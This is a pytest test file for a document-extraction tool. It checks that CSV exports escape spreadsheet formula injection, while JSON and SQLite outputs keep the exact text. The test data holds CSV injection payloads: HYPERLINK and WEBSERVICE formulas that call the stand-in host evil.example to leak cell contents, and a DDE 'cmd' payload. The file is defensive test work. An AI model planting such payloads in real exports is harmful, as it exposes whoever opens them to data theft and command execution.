"""CSV outputs open in a spreadsheet with no live formula from document text; JSON and SQLite keep the exact text."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import subprocess
import zipfile
from pathlib import Path

import pytest
from hostile import GOOD_DOCX, rewrite_docx

from export.csv_safety import spreadsheet_safe
from phuluc.cli import main

#: Cell texts a hostile author could type, and what a spreadsheet must see of them.
ESCAPED = [
    '=HYPERLINK("http://evil.example/?q="&A1;"click")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+2",
    "-1+2",
    "@SUM(1;2)",
    "\t=1+1",
    '- HYPERLINK("http://evil.example")',
    "- cmd|' /C calc'!A0",
    "-5",
]
#: Bullets as plans write them: left as they are.
KEPT = ["- Việc làm hằng năm", "+ Phòng Tư pháp", "- Phòng Y tế (chỉ tiêu 1)", "- UBND các xã."]


@pytest.mark.parametrize("text", ESCAPED)
def test_a_field_that_would_start_a_formula_is_escaped(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_a_bullet_before_a_word_is_left_as_written(text: str) -> None:
    assert spreadsheet_safe(text) == text


#: The whole text of row 1.1.1's lead cell in the good DOCX, replaced by a formula.
LEAD_CELL = "<w:t>Phòng Văn hóa và Thông tin</w:t>"
FORMULA = '=HYPERLINK("http://evil.example";"x")'


def hostile_plan(folder: Path) -> Path:
    """The good DOCX with a formula as a whole agency cell, saved under a name that is itself a formula."""
    xml_formula = FORMULA.replace('"', "&quot;")

    def edit(data: bytes) -> bytes:
        return data.decode("utf-8").replace(LEAD_CELL, f"<w:t>{xml_formula}</w:t>", 1).encode("utf-8")

    return rewrite_docx(folder / "=WEBSERVICE(1).docx", {"word/document.xml": edit})


def test_csv_fields_are_escaped_and_json_and_sqlite_keep_the_text(tmp_path: Path) -> None:
    plan = hostile_plan(tmp_path)
    out = tmp_path / "out"
    assert main(["extract", str(plan), "--out", str(out), "-q"]) == 0
    rows = list(csv.DictReader(io.StringIO((out / "rows.csv").read_text(encoding="utf-8-sig"))))
    assert {row["source"] for row in rows} == {"'=WEBSERVICE(1).docx"}
    assert rows[0]["lead"] == "'" + FORMULA
    assert not [v for row in rows for v in row.values() if v.startswith(("=", "@"))]
    for name in ("agency_mentions.csv", "review.csv"):
        fields = [v for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8-sig"))) for v in row]
        assert [v for v in fields if "HYPERLINK" in v] and all(v.startswith("'=") for v in fields if "HYPERLINK" in v)
        assert not [v for v in fields if v.startswith(("=", "@"))]
    payload = json.loads((out / "plan.json").read_text(encoding="utf-8"))
    assert payload["documents"][0]["source"] == "=WEBSERVICE(1).docx"
    assert payload["documents"][0]["rows"][0]["lead"] == FORMULA
    with sqlite3.connect(out / "plan.sqlite") as conn:
        assert conn.execute("SELECT source FROM documents").fetchone() == ("=WEBSERVICE(1).docx",)


def _calc_cells(csv_path: Path, folder: Path) -> list[str]:
    """Convert a CSV with LibreOffice Calc (UTF-8, formulas evaluated) and return each cell's ODS attributes."""
    profile = folder / "lo-profile"
    done = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{profile}",
            "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true",
            "--convert-to",
            "ods",
            "--outdir",
            str(folder),
            str(csv_path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    ods = folder / (csv_path.stem + ".ods")
    if not ods.exists():
        pytest.skip(f"LibreOffice Calc cannot convert CSV here (install libreoffice-calc-nogui): {done.stderr[-200:]}")
    content = zipfile.ZipFile(ods).read("content.xml").decode("utf-8")
    return re.findall(r"<table:table-cell([^>]*)>", content)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_calc_opens_the_csv_outputs_with_no_live_formula(tmp_path: Path) -> None:
    probe = tmp_path / "probe.csv"
    probe.write_text("a\n=1+1\n", encoding="utf-8")
    assert any("table:formula" in cell for cell in _calc_cells(probe, tmp_path))  # Calc does run "=" fields
    plan = hostile_plan(tmp_path)
    out = tmp_path / "out"
    assert main(["extract", str(plan), str(GOOD_DOCX), "--out", str(out), "-q"]) == 0
    mixed = tmp_path / "cases.csv"  # the cases above, as our writer writes them
    with mixed.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerows([[spreadsheet_safe(text)] for text in ESCAPED + KEPT])
    for name in ("rows.csv", "agency_mentions.csv", "review.csv"):
        assert not [cell for cell in _calc_cells(out / name, tmp_path) if "table:formula" in cell], name
    assert not [cell for cell in _calc_cells(mixed, tmp_path) if "table:formula" in cell]
